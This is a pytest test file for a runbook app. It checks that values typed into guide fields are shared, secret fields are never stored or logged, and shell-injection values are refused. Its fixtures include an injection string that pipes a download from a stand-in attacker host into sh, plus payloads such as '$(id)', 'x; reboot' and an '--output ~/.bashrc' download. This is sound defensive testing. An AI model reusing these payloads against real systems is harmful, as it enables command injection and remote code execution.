"""Values typed into fill-in fields: shared on a diagnosis, kept in the browser on an
article, and secret-looking ones never written anywhere by the server."""

from __future__ import annotations

import logging
import re

import pytest
from sqlalchemy import select
from sqlmodel import Session, SQLModel

from kb.auth.service import create_token, create_user
from kb.observe import JsonFormatter
from tests.conftest import form_token, write

SECRET = "re_live_9f8e7d6c5b4a-SECRET"

GUIDE = """\
---
fields:
  api_url: https://api.example.com
---
# Mail

## Issue: Emails not sending

**Symptoms:** password resets never arrive

**Solution:**

1. Ask Resend whether the key works:
   ```bash
   curl -H "Authorization: Bearer $RESEND_API_KEY" https://api.resend.com/domains
   curl https://api.example.com/health
   ```
   - it works → step 2
   - rejected → escalate
2. Check the sender of `<user_email>`.
"""


@pytest.fixture
def app(make_app, content_dir):
    write(content_dir, "mail.md", GUIDE)
    return make_app(content_dir)


@pytest.fixture
def client(app):
    return app.test_client()


def start(client) -> str:
    answer = client.post("/api/diagnoses", json={"tree": "mail/issue-emails-not-sending"})
    assert answer.status_code == 201
    return answer.get_json()["id"]


def fill(client, diagnosis_id: str, **values):
    token = form_token(client, f"/d/{diagnosis_id}")
    return client.post(f"/d/{diagnosis_id}/fields", data={"csrf_token": token, **values})


def test_values_filled_on_a_diagnosis_are_shown_to_everyone_on_it(app, client):
    diagnosis_id = start(client)
    answer = fill(client, diagnosis_id, api_url="https://api.staging.example.com")
    assert answer.status_code == 303
    teammate = app.test_client()
    html = teammate.get(f"/d/{diagnosis_id}").text
    assert 'value="https://api.staging.example.com"' in html
    assert (
        'data-field="api_url" data-example="https://api.example.com">'
        "https://api.staging.example.com</span>/health"
    ) in html
    state = teammate.get(f"/api/diagnoses/{diagnosis_id}").get_json()
    assert state["fields"] == {"api_url": "https://api.staging.example.com"}


def test_only_the_guides_own_fields_are_kept(client):
    diagnosis_id = start(client)
    fill(client, diagnosis_id, api_url="https://x.example", nonsense="y" * 50)
    state = client.get(f"/api/diagnoses/{diagnosis_id}").get_json()
    assert state["fields"] == {"api_url": "https://x.example"}


def test_an_emptied_field_shows_the_runbooks_example_again(client):
    diagnosis_id = start(client)
    fill(client, diagnosis_id, api_url="https://x.example")
    fill(client, diagnosis_id, api_url="")
    html = client.get(f"/d/{diagnosis_id}").text
    assert 'data-field="api_url">https://api.example.com</span>' in html


def test_the_script_saves_with_json_and_is_told_what_was_kept(client):
    diagnosis_id = start(client)
    token = form_token(client, f"/d/{diagnosis_id}")
    answer = client.post(
        f"/d/{diagnosis_id}/fields",
        data={"csrf_token": token, "api_url": "https://y.example", "RESEND_API_KEY": SECRET},
        headers={"Accept": "application/json"},
    )
    assert answer.get_json() == {"saved": ["api_url"]}


def test_an_article_form_without_javascript_comes_back_filled_and_stores_nothing(app, client):
    page = "/a/mail/issue-emails-not-sending"
    token = form_token(client, page)
    answer = client.post(page, data={"csrf_token": token, "api_url": "https://z.example"})
    assert answer.status_code == 200
    assert answer.headers["Cache-Control"] == "no-store"
    assert 'data-example="https://api.example.com">https://z.example</span>/health' in answer.text
    assert all(not rows for rows in _every_row(app).values())


INJECTION = 'api.example.com/x" \\\n && curl -s http://evil.example/p | sh && echo "'


def test_a_value_a_shell_would_run_is_refused_and_nothing_is_saved(client):
    diagnosis_id = start(client)
    answer = fill(client, diagnosis_id, api_url=INJECTION)
    assert answer.status_code == 422 and "api_url cannot hold" in answer.text
    token = form_token(client, f"/d/{diagnosis_id}")
    scripted = client.post(
        f"/d/{diagnosis_id}/fields",
        data={"csrf_token": token, "api_url": "a.example&&rm"},
        headers={"Accept": "application/json"},
    )
    assert scripted.status_code == 422 and "&" in scripted.get_json()["errors"]["api_url"]
    assert client.get(f"/api/diagnoses/{diagnosis_id}").get_json()["fields"] == {}
    assert "evil.example" not in client.get(f"/d/{diagnosis_id}").text


@pytest.mark.parametrize(
    "value",
    [
        INJECTION,
        "$(id)",
        "x; reboot",
        "a`id`",
        "x #",
        "\u202eexe",
        "https://api.example.com --output /home/me/.bashrc https://evil.example/p",
        "-rf",
        "*",
        "~/x",
        "a\u2028b",
    ],
)
def test_a_link_never_puts_a_value_a_shell_would_run_into_a_command(client, value):
    html = client.get("/a/mail/issue-emails-not-sending", query_string={"api_url": value}).text
    assert 'data-field="api_url">https://api.example.com</span>/health' in html


def test_a_value_stored_before_the_rule_is_never_handed_out(app, client):
    from kb.diagnosis.values import DiagnosisField

    diagnosis_id = start(client)
    with Session(app.extensions["kb.db"]) as session:
        session.add(DiagnosisField(diagnosis_id=diagnosis_id, key="api_url", value='x"; id; "'))
        session.commit()
    assert client.get(f"/api/diagnoses/{diagnosis_id}").get_json()["fields"] == {}
    assert "; id;" not in client.get(f"/d/{diagnosis_id}").text


@pytest.mark.parametrize(
    "value", ["api.staging.example.com", "https://[::1]:8080/v1", "user@example.com", "kube-system"]
)
def test_hosts_addresses_and_names_fill_commands(client, value):
    diagnosis_id = start(client)
    assert fill(client, diagnosis_id, api_url=value).status_code == 303
    assert client.get(f"/api/diagnoses/{diagnosis_id}").get_json()["fields"] == {"api_url": value}


def test_a_link_fills_a_page_but_never_a_secret_field(client):
    page = "/a/mail/issue-emails-not-sending"
    html = client.get(f"{page}?api_url=https://q.example&RESEND_API_KEY={SECRET}").text
    assert ">https://q.example</span>/health" in html
    assert SECRET not in html


def test_the_form_lists_each_field_once_and_marks_secret_ones(client):
    html = client.get("/a/mail/issue-emails-not-sending").text
    form = re.search(r'<form class="kb-fields".*?</form>', html, re.DOTALL).group(0)
    assert re.findall(r'data-key="([^"]+)"', form) == ["resend_api_key", "api_url", "user_email"]
    assert 'name="resend_api_key" data-key="resend_api_key" data-secret type="password"' in form
    assert 'placeholder="$RESEND_API_KEY"' in form


def _every_row(app) -> dict[str, list]:
    with Session(app.extensions["kb.db"]) as session:
        return {
            table.name: [tuple(row) for row in session.execute(select(table))]
            for table in SQLModel.metadata.sorted_tables
            if table.name not in ("alembic_version", "user", "apitoken", "ratehit", "rate_hit")
        }


def test_a_field_named_RESEND_API_KEY_is_never_written_to_the_database_a_log_or_an_export(
    app, client, caplog, tmp_path
):
    caplog.set_level(logging.DEBUG)
    diagnosis_id = start(client)
    # Without JavaScript: the page comes back filled, for this one response.
    answer = fill(client, diagnosis_id, RESEND_API_KEY=SECRET, api_url="https://ok.example")
    assert answer.status_code == 200 and answer.headers["Cache-Control"] == "no-store"
    assert f'data-example="$RESEND_API_KEY">{SECRET}</span>' in answer.text
    # In a link, through the JSON save, in an alert's labels: refused everywhere.
    client.get(f"/d/{diagnosis_id}?resend_api_key={SECRET}")
    client.post(
        f"/d/{diagnosis_id}/fields",
        data={"csrf_token": form_token(client, f"/d/{diagnosis_id}"), "resend_api_key": SECRET},
        headers={"Accept": "application/json"},
    )
    with Session(app.extensions["kb.db"]) as session:
        create_user(
            session=session, username="am", password="a long enough password", role="alerts"
        )
        token = create_token(session=session, username="am")
    alert = {
        "version": "4",
        "status": "firing",
        "alerts": [
            {
                "status": "firing",
                "labels": {"alertname": "EmailsNotSending", "RESEND_API_KEY": SECRET},
                "annotations": {"runbook_url": "/a/mail/issue-emails-not-sending"},
                "startsAt": "2026-11-29T10:00:00Z",
            }
        ],
    }
    posted = client.post("/api/alerts", json=alert, headers={"Authorization": f"Bearer {token}"})
    assert posted.status_code == 200

    everything = repr(_every_row(app))
    assert "https://ok.example" in everything  # the shareable value was stored…
    assert SECRET not in everything  # …the secret one nowhere
    data_files = [p for p in (tmp_path / "data").rglob("*") if p.is_file()]
    assert data_files and all(SECRET.encode() not in p.read_bytes() for p in data_files)
    formatter = JsonFormatter()
    with app.test_request_context():
        logged = "\n".join(formatter.format(record) for record in caplog.records)
    assert "POST /d/" in logged  # the access log did see these requests
    assert SECRET not in logged
    for path in (f"/d/{diagnosis_id}/export.md", f"/api/diagnoses/{diagnosis_id}/export.md"):
        export = client.get(path).text
        assert "`api_url` = `https://ok.example`" in export
        assert SECRET not in export
    assert SECRET not in client.get(f"/api/diagnoses/{diagnosis_id}").text
    alert_page = client.get(posted.get_json()["alerts"][0]["diagnosis_url"]).text
    assert SECRET not in alert_page and "RESEND_API_KEY=" not in alert_page
